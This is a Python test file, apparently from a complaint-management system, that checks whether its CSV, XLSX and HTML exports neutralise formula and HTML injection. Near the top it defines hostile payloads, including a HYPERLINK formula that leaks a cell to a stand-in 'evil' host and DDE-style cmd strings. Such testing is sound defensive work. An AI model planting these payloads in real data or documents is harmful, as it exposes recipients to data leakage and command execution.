"""Every export is inert: text a spreadsheet would run as a formula reaches the CSV files and the
XLSX report as text, and the PDF's HTML source shows hostile text escaped. Formula payloads are
put in every free-text field that reaches an export: the complaint's title, the reporter's name,
a category's and an OPD's name, a survey suggestion and each field of an improvement action."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import update

from engine.calendar.periods import parse_period
from engine.domain import Actor
from engine.evaluation.improvements import add_action, mark_done
from engine.evaluation.report_tables import report_tables
from engine.evaluation.reports import render_html, render_xlsx
from engine.evaluation.summary import evaluate
from engine.messages import looks_like_formula
from engine.reference.tables import Category, Opd
from tests.evaluation.data import add_answer, add_complaint
from tests.walk import Walk, wib
from tests.webui.pages import Pages
from webui.wiring import Services

PAYLOADS = ('=HYPERLINK("http://evil/?x="&A1,"Klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
            "@SUM(1+1)*cmd|x", "＝1+1 lebar")
HTML_PAYLOAD = '<img src="http://evil/x.png">'
CATEGORY = "=cmd|' /C notepad'!A0"


def _seed(services: Services) -> None:
    """A survey answer and an improvement action of March 2026 carrying every payload."""
    ketua = Actor("ketua", "ketua")
    with services.uow() as uow:
        session = uow.session
        session.execute(update(Opd).where(Opd.code == "DINKES").values(name=PAYLOADS[4]))
        complaint = add_complaint(session, wib("2026-03-03 09:00"), opd_code="DINKES",
                                  status="selesai", closed_at=wib("2026-03-10 09:00"))
        add_answer(session, complaint, (4,) * 9, wib("2026-03-11 09:00"),
                   saran=f"{PAYLOADS[0]} {HTML_PAYLOAD}")
        action = add_action(session, {"period": "2026-03", "finding": PAYLOADS[1],
                                      "action": PAYLOADS[2], "owner": PAYLOADS[3],
                                      "due_on": "2026-04-30"}, ketua, wib("2026-03-12 09:00"))
        session.flush()
        mark_done(session, action.id, {"result": PAYLOADS[0], "done_on": "2026-03-20"}, ketua,
                  wib("2026-03-20 09:00"))
        uow.commit()


def test_the_xlsx_report_stores_formulas_as_text(services: Services) -> None:
    _seed(services)
    with services.uow() as uow:
        ev = evaluate(uow.session, parse_period("2026-03"), wib("2026-04-10 09:00"))
    data = render_xlsx(ev, report_tables(ev))
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    cells = [c for sheet in load_workbook(io.BytesIO(data)).worksheets
             for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if looks_like_formula(c.value)]
    assert {p for p in PAYLOADS if any(p in c.value for c in risky)} == set(PAYLOADS)
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_the_pdf_source_shows_hostile_text_escaped(services: Services) -> None:
    _seed(services)
    with services.uow() as uow:
        ev = evaluate(uow.session, parse_period("2026-03"), wib("2026-04-10 09:00"))
    page = render_html(ev, report_tables(ev))
    assert HTML_PAYLOAD not in page and "&lt;img src=" in page
    assert "=HYPERLINK(&#34;http://evil/?x=&#34;&amp;A1" in page  # text, never a link


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_csv_exports_quote_every_formula(pages: Pages, walk: Walk,
                                             services: Services) -> None:
    with services.uow() as uow:  # a category's name is typed by an admin
        uow.session.execute(update(Category).where(Category.code == "4").values(
            name=CATEGORY))
        uow.commit()
    for payload in PAYLOADS:
        walk.file(title=payload, name=payload)
    walk.user("tim_admin")
    pages.login("tim_admin")
    book = _csv(pages.get("/front-office/buku-registrasi/csv?start=2026-03-01&end=2026-03-31")
                .get_data(as_text=True))
    listing = _csv(pages.get("/pemantauan/ekspor.csv").get_data(as_text=True))
    for rows in (book, listing):
        cells = [c for row in rows[1:] for c in row]
        assert not [c for c in cells if looks_like_formula(c)]
        assert {p for p in PAYLOADS if f"'{p}" in cells} == set(PAYLOADS)
    assert f"'{CATEGORY}" in [c for row in book[1:] for c in row]
